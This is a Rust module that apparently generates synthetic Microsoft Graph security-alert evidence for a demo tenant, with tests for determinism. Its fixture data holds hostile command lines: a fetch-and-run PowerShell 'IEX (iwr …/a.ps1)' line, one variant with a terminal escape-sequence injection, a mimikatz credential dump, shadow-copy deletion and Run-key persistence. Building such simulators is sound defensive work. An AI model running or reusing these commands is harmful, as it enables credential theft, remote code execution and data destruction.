//! Evidence rendering: derived on demand from an alert's seed and its incident's "cast"
//! (the device, user and addresses involved), so nothing large is kept in memory.

use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use serde_json::{Map, Value, json};

use super::model::{Alert, EvKind, Hostile, Incident, REMEDIATION_GATED, Ts};
use super::pools;

/// The entities one incident revolves around.
pub struct Cast {
    host: String,
    os: &'static str,
    build: i64,
    mde_id: String,
    aad_device_id: String,
    user_display: String,
    account: String,
    upn: String,
    /// The mailbox mail evidence is addressed to: the user's, or now and then a shared one.
    mailbox: String,
    sid: String,
    aad_user_id: String,
    ext_ip: &'static str,
    country: &'static str,
    city: &'static str,
    int_ip: String,
    domain: &'static str,
    sha1: String,
    sha256: String,
    md5: String,
    hostile: Option<Hostile>,
}

fn hex(rng: &mut ChaCha8Rng, bytes: usize) -> String {
    use std::fmt::Write;
    let mut s = String::with_capacity(bytes * 2);
    for _ in 0..bytes {
        let _ = write!(s, "{:02x}", rng.random::<u8>());
    }
    s
}

/// A generator seeded by `name` alone, so an entity (a device, an account) carries the same
/// ids in every incident that names it.
fn named_rng(name: &str) -> ChaCha8Rng {
    // FNV-1a: stable across builds and platforms.
    let h = name.bytes().fold(0xcbf2_9ce4_8422_2325u64, |h, b| {
        (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3)
    });
    ChaCha8Rng::seed_from_u64(h)
}

fn guid(rng: &mut ChaCha8Rng) -> String {
    uuid::Builder::from_random_bytes(rng.random())
        .into_uuid()
        .to_string()
}

impl Cast {
    /// Derives the cast of an incident.
    pub fn of(inc: &Incident) -> Cast {
        let mut rng = ChaCha8Rng::seed_from_u64(inc.cast_seed);
        // Half the incidents involve a named server or workstation, half one of the generated
        // fleet, so the device list of a large demo tenant has many rows.
        let (host, os, build) = if rng.random_range(0..2) == 0 {
            let (h, os, b) = *pools::DEVICES
                .choose(&mut rng)
                .unwrap_or(&pools::DEVICES[0]);
            (h.to_string(), os, b)
        } else {
            let dept = *pools::DEPARTMENTS.choose(&mut rng).unwrap_or(&"it");
            let (os, b) = *pools::FLEET_OS
                .choose(&mut rng)
                .unwrap_or(&pools::FLEET_OS[0]);
            let kind = if rng.random_range(0..3) == 0 {
                "lt"
            } else {
                "wks"
            };
            (
                format!("{kind}-{dept}-{:03}", rng.random_range(1..=120)),
                os,
                b,
            )
        };
        let (display, account) = *pools::USERS.choose(&mut rng).unwrap_or(&pools::USERS[0]);
        let (ext_ip, country, city) = *pools::EXT_IPS
            .choose(&mut rng)
            .unwrap_or(&pools::EXT_IPS[0]);
        let domain = *pools::DOMAINS
            .choose(&mut rng)
            .unwrap_or(&pools::DOMAINS[0]);
        let mailbox_pick = rng.random_range(0..4);
        let shared = *pools::SHARED_MAILBOXES
            .choose(&mut rng)
            .unwrap_or(&pools::SHARED_MAILBOXES[0]);
        let (mut user_display, mut account) = (display.to_string(), account.to_string());
        if inc.hostile == Some(Hostile::ZwspUser) {
            user_display = "Adm\u{200B}inistrator".into();
            account = "adm\u{200B}inistrator".into();
        }
        let mut device_ids = named_rng(&host);
        let mut user_ids = named_rng(&account);
        let upn = format!("{account}@contoso.com");
        Cast {
            mde_id: hex(&mut device_ids, 20),
            aad_device_id: guid(&mut device_ids),
            host,
            os,
            build,
            mailbox: if mailbox_pick == 0 {
                shared.to_string()
            } else {
                upn.clone()
            },
            upn,
            sid: format!(
                "S-1-5-21-{}-{}-{}-{}",
                user_ids.random_range(1_000_000_000u32..4_000_000_000),
                user_ids.random_range(1_000_000_000u32..4_000_000_000),
                user_ids.random_range(1_000_000_000u32..4_000_000_000),
                user_ids.random_range(1100..9000)
            ),
            aad_user_id: guid(&mut user_ids),
            user_display,
            account,
            ext_ip,
            country,
            city,
            int_ip: format!(
                "10.{}.{}.{}",
                rng.random_range(0..=40),
                rng.random_range(0..=255),
                rng.random_range(2..=254)
            ),
            domain,
            sha1: hex(&mut rng, 20),
            sha256: hex(&mut rng, 32),
            md5: hex(&mut rng, 16),
            hostile: inc.hostile,
        }
    }
}

/// An `emailSender` object.
fn email_sender(display: &str, address: &str) -> Value {
    let domain = address.rsplit('@').next().unwrap_or(address);
    json!({ "emailAddress": address, "displayName": display, "domainName": domain })
}

struct Ev<'a> {
    rng: ChaCha8Rng,
    created: String,
    /// First activity of the alert (Unix seconds); process times are placed around it.
    t0: i64,
    cast: &'a Cast,
    include_unknown: bool,
    out: Vec<Value>,
    /// Processes emitted so far (pid, creation seconds, nanos), so a child's
    /// `parentProcessCreationDateTime` matches its parent's `processCreationDateTime`.
    procs: Vec<(i64, i64, u32)>,
}

impl Ev<'_> {
    fn base(
        &mut self,
        ty: &str,
        verdict: &str,
        roles: &[&str],
        detailed: &[&str],
    ) -> Map<String, Value> {
        let rem = *[
            "none",
            "none",
            "none",
            "remediated",
            "prevented",
            "blocked",
            "pendingApproval",
        ]
        .choose(&mut self.rng)
        .unwrap_or(&"none");
        let rem = if !self.include_unknown && REMEDIATION_GATED.contains(&rem) {
            "unknownFutureValue"
        } else {
            rem
        };
        let v = json!({
            "@odata.type": format!("#microsoft.graph.security.{ty}"),
            "createdDateTime": self.created,
            "verdict": verdict,
            "remediationStatus": rem,
            "remediationStatusDetails": null,
            "roles": roles,
            "detailedRoles": detailed,
            "tags": [],
        });
        match v {
            Value::Object(m) => m,
            _ => Map::new(),
        }
    }

    fn push(&mut self, mut m: Map<String, Value>, extra: Value) {
        if let Value::Object(e) = extra {
            m.extend(e);
        }
        self.out.push(Value::Object(m));
    }

    fn user_account(&self) -> Value {
        let c = self.cast;
        json!({
            "accountName": c.account, "domainName": "CONTOSO", "userSid": c.sid,
            "azureAdUserId": c.aad_user_id, "userPrincipalName": c.upn, "displayName": c.user_display,
        })
    }

    fn device(&mut self) {
        let c = self.cast;
        let m = self.base(
            "deviceEvidence",
            "suspicious",
            &["compromised"],
            &["Main device"],
        );
        let first_seen = Ts::from_parts(
            1_700_000_000 + self.rng.random_range(0..40_000_000),
            self.rng.random_range(0..999_999_999),
            7,
        );
        let extra = json!({
            "firstSeenDateTime": first_seen.render(),
            "mdeDeviceId": c.mde_id, "azureAdDeviceId": c.aad_device_id,
            "deviceDnsName": format!("{}.corp.contoso.com", c.host), "hostName": c.host,
            "ntDomain": "CONTOSO", "dnsDomain": "corp.contoso.com",
            "osPlatform": c.os, "osBuild": if c.build == 0 { Value::Null } else { json!(c.build) },
            "version": if c.os.starts_with("Windows") { "22H2" } else { "Other" },
            "healthStatus": "active", "riskScore": *["high", "medium", "low"].choose(&mut self.rng).unwrap_or(&"medium"),
            "rbacGroupId": 75, "rbacGroupName": "UnassignedGroup",
            "onboardingStatus": "onboarded", "defenderAvStatus": "updated",
            "ipInterfaces": [c.int_ip],
            "lastIpAddress": c.int_ip, "lastExternalIpAddress": c.ext_ip,
            "loggedOnUsers": [{"accountName": c.account, "domainName": "CONTOSO"}],
            "vmMetadata": null,
        });
        self.push(m, extra);
    }

    fn user(&mut self, roles: &[&str]) {
        let m = self.base("userEvidence", "suspicious", roles, &[]);
        let extra = json!({ "userAccount": self.user_account(), "stream": null });
        self.push(m, extra);
    }

    fn file(&mut self, name: &str, path: &str) {
        let c = self.cast;
        let m = self.base(
            "fileEvidence",
            "malicious",
            &[],
            &["Referred in command line"],
        );
        let extra = json!({
            "detectionStatus": "detected", "mdeDeviceId": c.mde_id,
            "fileDetails": {
                "sha1": c.sha1, "sha256": c.sha256, "md5": c.md5, "sha256Ac": null,
                "fileName": name, "filePath": path, "fileSize": self.rng.random_range(10_000..9_000_000),
                "filePublisher": null, "signer": null, "issuer": null,
            },
        });
        self.push(m, extra);
    }

    fn process(
        &mut self,
        pid: i64,
        ppid: i64,
        image: (&str, &str),
        parent: (&str, &str),
        cmd: String,
    ) {
        let c = self.cast;
        let m = self.base("processEvidence", "suspicious", &[], &[]);
        // A parent already in the evidence fixes the parent time; the child starts after it.
        let (p_secs, p_nanos) = match self.procs.iter().find(|(p, _, _)| *p == ppid) {
            Some(&(_, secs, nanos)) => (secs, nanos),
            None => (
                self.t0 - self.rng.random_range(1..3600),
                self.rng.random_range(0..999_999_999),
            ),
        };
        let (t_secs, t_nanos) = (
            (self.t0 + self.rng.random_range(0..60)).max(p_secs + 1),
            self.rng.random_range(0..999_999_999),
        );
        self.procs.push((pid, t_secs, t_nanos));
        let t = Ts::from_parts(t_secs, t_nanos, 7);
        let pt = Ts::from_parts(p_secs, p_nanos, 7);
        let extra = json!({
            "processId": pid, "parentProcessId": ppid, "processCommandLine": cmd,
            "processCreationDateTime": t.render(), "parentProcessCreationDateTime": pt.render(),
            "detectionStatus": "detected", "mdeDeviceId": c.mde_id,
            "imageFile": { "sha1": hex(&mut self.rng, 20), "sha256": null, "fileName": image.0, "filePath": image.1, "fileSize": self.rng.random_range(100_000..5_000_000) },
            "parentProcessImageFile": { "sha1": null, "sha256": null, "fileName": parent.0, "filePath": parent.1, "fileSize": self.rng.random_range(100_000..5_000_000) },
            "userAccount": self.user_account(),
        });
        self.push(m, extra);
    }

    fn proc_chain(&mut self) {
        let base = self.rng.random_range(1000..60_000i64);
        let (word, cmd, ps) = (base, base + 24, base + 31);
        let explorer = base - self.rng.random_range(100..900);
        let doc = "Invoice_2026-03.docm";
        self.process(
            word,
            explorer,
            (
                "WINWORD.EXE",
                "C:\\Program Files\\Microsoft Office\\root\\Office16",
            ),
            ("explorer.exe", "C:\\Windows"),
            format!(
                "\"WINWORD.EXE\" /n \"C:\\Users\\{}\\Downloads\\{doc}\" /o \"\"",
                self.cast.account
            ),
        );
        self.process(
            cmd,
            word,
            ("cmd.exe", "C:\\Windows\\System32"),
            ("WINWORD.EXE", "C:\\Program Files\\Microsoft Office\\root\\Office16"),
            "cmd.exe /c powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA".into(),
        );
        let ps_cmd = match self.cast.hostile {
            Some(Hostile::EscCmd) => format!(
                "powershell.exe -NoP -c \"Write-Host \u{1b}]0;pwned\u{7}; IEX (iwr http://{}/a.ps1)\"",
                self.cast.domain
            ),
            Some(Hostile::LongCmd) => {
                let mut s = String::from("powershell.exe -NoP -W Hidden -enc ");
                const B64: &[u8] =
                    b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
                for _ in 0..5000 {
                    s.push(char::from(B64[self.rng.random_range(0..B64.len())]));
                }
                s
            }
            _ => format!(
                "powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB7AH0ALwBhAC4AcABzADEAKQA= # {}",
                self.cast.domain
            ),
        };
        self.process(
            ps,
            cmd,
            (
                "powershell.exe",
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
            ),
            ("cmd.exe", "C:\\Windows\\System32"),
            ps_cmd,
        );
        self.file(doc, &format!("C:\\Users\\{}\\Downloads", self.cast.account));
    }

    fn ip(&mut self) {
        let c = self.cast;
        let m = self.base("ipEvidence", "suspicious", &["attacker"], &[]);
        let extra = json!({
            "ipAddress": c.ext_ip, "countryLetterCode": c.country,
            "location": { "city": c.city, "countryName": c.country, "state": null, "latitude": null, "longitude": null },
            "stream": null,
        });
        self.push(m, extra);
    }

    fn url(&mut self, path: &str) {
        let m = self.base("urlEvidence", "malicious", &["commandAndControl"], &[]);
        let extra = json!({ "url": format!("https://{}/{path}", self.cast.domain) });
        self.push(m, extra);
    }

    fn mailbox(&mut self) {
        let m = self.base("mailboxEvidence", "unknown", &["contextual"], &[]);
        let extra = json!({
            "displayName": if self.cast.mailbox == self.cast.upn {
                self.cast.user_display.as_str()
            } else {
                self.cast.mailbox.split('@').next().unwrap_or_default()
            },
            "primaryAddress": self.cast.mailbox, "upn": self.cast.upn,
            "userAccount": self.user_account(),
        });
        self.push(m, extra);
    }

    fn message(&mut self) {
        let c = self.cast;
        let m = self.base("analyzedMessageEvidence", "malicious", &[], &[]);
        let nmid = guid(&mut self.rng);
        let recv = Ts::from_parts(self.t0 - self.rng.random_range(0..600), 0, 0);
        let (display, from) = *pools::MAIL_SENDERS
            .choose(&mut self.rng)
            .unwrap_or(&pools::MAIL_SENDERS[0]);
        let subject = *pools::MAIL_SUBJECTS
            .choose(&mut self.rng)
            .unwrap_or(&pools::MAIL_SUBJECTS[0]);
        let header = email_sender(display, from);
        // One message in three is relayed by a bulk mailer: the envelope differs from the header.
        let envelope = match pools::MAIL_RELAYS.choose(&mut self.rng) {
            Some(relay) if self.rng.random_range(0..3) == 0 => email_sender(
                display,
                &format!("bounces+{}@{relay}", hex(&mut self.rng, 4)),
            ),
            _ => header.clone(),
        };
        let from_domain = from.rsplit('@').next().unwrap_or(from);
        let extra = json!({
            "networkMessageId": nmid,
            "internetMessageId": format!("<{}@mail.{from_domain}>", hex(&mut self.rng, 8)),
            "subject": subject,
            "language": "en", "senderIp": c.ext_ip,
            "recipientEmailAddress": c.mailbox, "antiSpamDirection": "Inbound",
            "deliveryAction": "Delivered", "deliveryLocation": "Inbox/folder",
            "p1Sender": envelope,
            "p2Sender": header,
            "receivedDateTime": recv.render(),
            "threatDetectionMethods": ["urlDetonationReputation"], "threats": ["Phish"],
            "urlCount": 1, "urls": [format!("https://{}/login", c.domain)], "attachmentsCount": 0,
            "urn": format!("urn:MailEntity:{}", hex(&mut self.rng, 16)),
        });
        self.push(m, extra);
    }

    fn registry(&mut self) {
        let c = self.cast;
        let m = self.base("registryValueEvidence", "suspicious", &["edited"], &[]);
        let extra = json!({
            "mdeDeviceId": c.mde_id, "registryHive": "HKEY_CURRENT_USER",
            "registryKey": "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
            "registryValueName": "OneDriveUpdate", "registryValueType": "String",
            "registryValue": format!("C:\\Users\\{}\\AppData\\Roaming\\odupd.exe -silent", c.account),
        });
        self.push(m, extra);
    }

    fn cloud_app(&mut self) {
        let m = self.base("cloudApplicationEvidence", "unknown", &["contextual"], &[]);
        let extra = json!({
            "appId": 20892, "displayName": "Microsoft SharePoint Online", "instanceId": 0,
            "instanceName": "Microsoft SharePoint Online", "saasAppId": 20892, "stream": null,
        });
        self.push(m, extra);
    }

    fn oauth(&mut self) {
        let m = self.base(
            "oauthApplicationEvidence",
            "suspicious",
            &["suspicious"],
            &[],
        );
        let extra = json!({
            "appId": guid(&mut self.rng), "objectId": guid(&mut self.rng),
            "displayName": "PDF Converter Pro", "publisher": "Unverified",
        });
        self.push(m, extra);
    }

    fn future(&mut self) {
        let m = self.base("quantumWidgetEvidence", "unknown", &[], &[]);
        let extra = json!({ "widgetId": hex(&mut self.rng, 6), "entanglementState": "superposed", "qubits": 127 });
        self.push(m, extra);
    }
}

/// Renders the `evidence` collection of `alert`; `future` adds an item of a type newer than the
/// schema (the `unknown-evidence` fault).
pub fn evidence(cast: &Cast, alert: &Alert, include_unknown: bool, future: bool) -> Vec<Value> {
    let mut e = Ev {
        rng: ChaCha8Rng::seed_from_u64(alert.evidence_seed),
        created: alert.created.render(),
        t0: alert.first_activity.secs(),
        cast,
        include_unknown,
        out: Vec::with_capacity(6),
        procs: Vec::new(),
    };
    match alert.ev_kind {
        EvKind::ProcChain | EvKind::Den => {
            e.device();
            e.user(&["compromised"]);
            e.proc_chain();
            if alert.ev_kind == EvKind::Den {
                e.ip();
                e.url("stage2.bin");
            }
        }
        EvKind::Credential => {
            e.device();
            e.user(&["compromised"]);
            let pid = e.rng.random_range(2000..9000);
            e.process(
                pid,
                pid - 120,
                ("mimi.exe", "C:\\ProgramData\\Temp"),
                ("cmd.exe", "C:\\Windows\\System32"),
                "mimi.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit".into(),
            );
            e.file("mimi.exe", "C:\\ProgramData\\Temp");
        }
        EvKind::Ransom => {
            e.device();
            e.file("svchostx.exe", "C:\\Users\\Public");
            let pid = e.rng.random_range(2000..9000);
            e.process(
                pid,
                pid - 40,
                ("vssadmin.exe", "C:\\Windows\\System32"),
                ("svchostx.exe", "C:\\Users\\Public"),
                "vssadmin.exe delete shadows /all /quiet".into(),
            );
        }
        EvKind::Registry => {
            e.device();
            e.registry();
            e.file(
                "odupd.exe",
                &format!("C:\\Users\\{}\\AppData\\Roaming", cast.account),
            );
        }
        EvKind::C2 => {
            e.device();
            e.ip();
            e.url("beacon");
            let pid = e.rng.random_range(2000..9000);
            e.process(
                pid,
                pid - 300,
                ("rundll32.exe", "C:\\Windows\\System32"),
                ("explorer.exe", "C:\\Windows"),
                "rundll32.exe C:\\Users\\Public\\lib.dll,Start".into(),
            );
        }
        EvKind::Mail => {
            e.mailbox();
            e.message();
            e.url("login");
            e.user(&["contextual"]);
        }
        EvKind::MailForward => {
            e.mailbox();
            e.user(&["compromised"]);
            e.ip();
        }
        EvKind::Identity => {
            e.user(&["compromised"]);
            e.ip();
            if e.rng.random::<f64>() < 0.5 {
                e.device();
            }
        }
        EvKind::CloudApp => {
            e.user(&["compromised"]);
            e.cloud_app();
            e.ip();
        }
        EvKind::OAuth => {
            e.oauth();
            e.cloud_app();
            e.user(&["contextual"]);
        }
        EvKind::Sentinel => {
            if e.rng.random::<f64>() < 0.5 {
                e.ip();
                e.user(&["contextual"]);
            }
        }
    }
    if future {
        e.future();
    }
    e.out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sim::generate::generate;
    use std::collections::{BTreeSet, HashMap};

    /// Every evidence item of every alert of a generated tenant.
    fn all_evidence(seed: u64) -> Vec<Value> {
        let g = generate(seed, 300, 1_780_000_000);
        let mut out = Vec::new();
        for inc in &g.incidents {
            let cast = Cast::of(inc);
            for a in &inc.alerts {
                out.extend(evidence(&cast, a, false, false));
            }
        }
        out
    }

    fn distinct(ev: &[Value], ty: &str, pointer: &str) -> BTreeSet<String> {
        ev.iter()
            .filter(|e| e["@odata.type"].as_str().is_some_and(|t| t.ends_with(ty)))
            .filter_map(|e| e.pointer(pointer).and_then(Value::as_str))
            .map(str::to_string)
            .collect()
    }

    #[test]
    fn the_demo_tenant_varies_senders_subjects_devices_users_and_mailboxes_by_seed() {
        let ev = all_evidence(42);
        let senders = distinct(&ev, "analyzedMessageEvidence", "/p2Sender/emailAddress");
        let subjects = distinct(&ev, "analyzedMessageEvidence", "/subject");
        let recipients = distinct(&ev, "analyzedMessageEvidence", "/recipientEmailAddress");
        let devices = distinct(&ev, "deviceEvidence", "/hostName");
        let users = distinct(&ev, "userEvidence", "/userAccount/userPrincipalName");
        let mailboxes = distinct(&ev, "mailboxEvidence", "/primaryAddress");
        assert!(senders.len() >= 5, "{senders:?}");
        assert!(subjects.len() >= 5, "{subjects:?}");
        assert!(recipients.len() >= 8, "{recipients:?}");
        assert!(
            recipients
                .iter()
                .any(|r| pools::SHARED_MAILBOXES.contains(&r.as_str())),
            "{recipients:?}"
        );
        assert!(devices.len() >= 40, "{} devices", devices.len());
        assert!(users.len() >= 10, "{users:?}");
        assert!(mailboxes.len() >= 8, "{mailboxes:?}");
        // The same seed gives the same tenant; another seed another one.
        assert_eq!(ev, all_evidence(42));
        assert_ne!(ev, all_evidence(43));
    }

    #[test]
    fn a_device_or_account_keeps_its_ids_across_incidents() {
        let ev = all_evidence(42);
        let mut device_ids: HashMap<String, BTreeSet<String>> = HashMap::new();
        let mut sids: HashMap<String, BTreeSet<String>> = HashMap::new();
        for e in &ev {
            let ty = e["@odata.type"].as_str().unwrap_or_default();
            if ty.ends_with("deviceEvidence") {
                device_ids
                    .entry(e["hostName"].as_str().unwrap_or_default().to_string())
                    .or_default()
                    .insert(e["mdeDeviceId"].as_str().unwrap_or_default().to_string());
            }
            if ty.ends_with("userEvidence") {
                sids.entry(
                    e.pointer("/userAccount/accountName")
                        .and_then(Value::as_str)
                        .unwrap_or_default()
                        .to_string(),
                )
                .or_default()
                .insert(
                    e.pointer("/userAccount/userSid")
                        .and_then(Value::as_str)
                        .unwrap_or_default()
                        .to_string(),
                );
            }
        }
        assert!(device_ids.len() >= 40, "{} devices", device_ids.len());
        for (host, ids) in &device_ids {
            assert_eq!(ids.len(), 1, "{host}: {ids:?}");
        }
        for (acct, ids) in &sids {
            assert_eq!(ids.len(), 1, "{acct}: {ids:?}");
        }
        // Two different devices do not share an id.
        let all: BTreeSet<&String> = device_ids.values().flatten().collect();
        assert_eq!(all.len(), device_ids.len());
    }
}
